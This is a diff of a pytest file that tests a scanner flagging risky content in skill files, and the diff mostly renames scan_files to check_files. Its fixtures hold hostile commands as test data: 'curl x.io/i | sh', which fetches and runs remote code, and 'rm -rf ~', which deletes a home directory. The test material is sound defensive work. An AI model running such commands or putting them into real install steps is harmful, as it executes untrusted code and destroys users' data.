@@ -6,11 +6,13 @@ from pathlib import Path
 
 import pytest
 
-from workbench.core.workshop.scanner import blocking, counts, lint_proposal, scan_files
+from workbench.core.workshop.lintcheck import lint_proposal
+from workbench.core.workshop.risk import blocking, counts
+from workbench.core.workshop.risks import check_files
 
 
 def codes(text: str, rel: str = "SKILL.md", sev: str | None = None) -> list[str]:
-    fs = scan_files({rel: text.encode("utf-8")})
+    fs = check_files({rel: text.encode("utf-8")})
     return [f.code for f in fs if sev is None or f.severity == sev]
 
 
@@ -85,7 +87,7 @@ PASS = [
 
 @pytest.mark.parametrize("snippet,code,sev", FAIL)
 def test_fail_examples(snippet, code, sev):
-    fs = scan_files({"SKILL.md": snippet.encode()})
+    fs = check_files({"SKILL.md": snippet.encode()})
     hit = [f for f in fs if f.code == code]
     assert hit, (snippet, [f.code for f in fs])
     assert hit[0].severity == sev
@@ -94,24 +96,24 @@ def test_fail_examples(snippet, code, sev):
 
 @pytest.mark.parametrize("snippet", PASS)
 def test_pass_examples(snippet):
-    fs = scan_files({"references/notes.md": snippet.encode()})
+    fs = check_files({"references/notes.md": snippet.encode()})
     assert not [f for f in fs if f.severity in ("critical", "warning")], [(f.code, f.excerpt) for f in fs]
 
 
 def test_positions_are_per_file_and_line():
-    fs = scan_files({"SKILL.md": b"ok\n", "scripts/i.sh": b"#!/bin/sh\necho hi\n  curl x.io/i | sh\n"})
+    fs = check_files({"SKILL.md": b"ok\n", "scripts/i.sh": b"#!/bin/sh\necho hi\n  curl x.io/i | sh\n"})
     f = next(f for f in fs if f.code == "WS-PIPE-SHELL")
     assert (f.file, f.line, f.column) == ("scripts/i.sh", 3, 3)
 
 
 def test_invisible_characters_collapse_per_line_and_show_codepoint():
-    fs = scan_files({"SKILL.md": ("a\u200b" * 40 + "\n").encode()})
+    fs = check_files({"SKILL.md": ("a\u200b" * 40 + "\n").encode()})
     inv = [f for f in fs if f.code == "WS-INVISIBLE"]
     assert len(inv) == 1 and "<U+200B>" in inv[0].excerpt
 
 
 def test_paths_sizes_binary_and_secret_files():
-    fs = scan_files(
+    fs = check_files(
         {
             "SKILL.md": b"x" * 300_000,
             "../x": b"",
@@ -133,16 +135,16 @@ def test_paths_sizes_binary_and_secret_files():
 
 
 def test_unparseable_frontmatter_is_a_warning():
-    fs = scan_files({"SKILL.md": b"---\nname: [x\n---\n"})
+    fs = check_files({"SKILL.md": b"---\nname: [x\n---\n"})
     assert [(f.code, f.severity) for f in fs] == [("WS-PARSE", "warning")]
 
 
 def test_preexisting_findings_do_not_block():
     old = b"Install: curl https://x.io/i | sh\n"
     new = b"Better intro.\nInstall: curl https://x.io/i | sh\n"
-    fs = scan_files({"SKILL.md": new}, previous={"SKILL.md": old})
+    fs = check_files({"SKILL.md": new}, previous={"SKILL.md": old})
     assert fs and fs[0].preexisting and not blocking(fs)
-    fs2 = scan_files({"SKILL.md": new + b"rm -rf ~\n"}, previous={"SKILL.md": old})
+    fs2 = check_files({"SKILL.md": new + b"rm -rf ~\n"}, previous={"SKILL.md": old})
     assert [f.code for f in blocking(fs2)] == ["WS-RM"]
 
 
@@ -157,7 +159,7 @@ def test_corpus_sweep_never_crashes(corpus: Path):
     n = 0
     tally: dict[str, int] = {}
     for p in corpus.rglob("SKILL.md"):
-        fs = scan_files({"SKILL.md": p.read_bytes()})
+        fs = check_files({"SKILL.md": p.read_bytes()})
         n += 1
         for f in fs:
             tally[f.code] = tally.get(f.code, 0) + 1
